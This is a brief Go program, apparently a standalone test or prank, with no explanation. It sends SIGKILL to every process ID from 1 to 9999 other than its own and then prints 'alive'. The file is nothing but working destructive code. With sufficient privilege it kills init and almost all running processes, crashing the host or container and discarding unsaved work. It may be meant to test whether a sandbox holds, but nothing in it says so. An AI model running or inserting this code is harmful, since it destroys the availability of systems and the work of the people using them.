package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	for pid := 1; pid < 10000; pid++ {
		if pid != os.Getpid() {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	fmt.Println("alive")
}
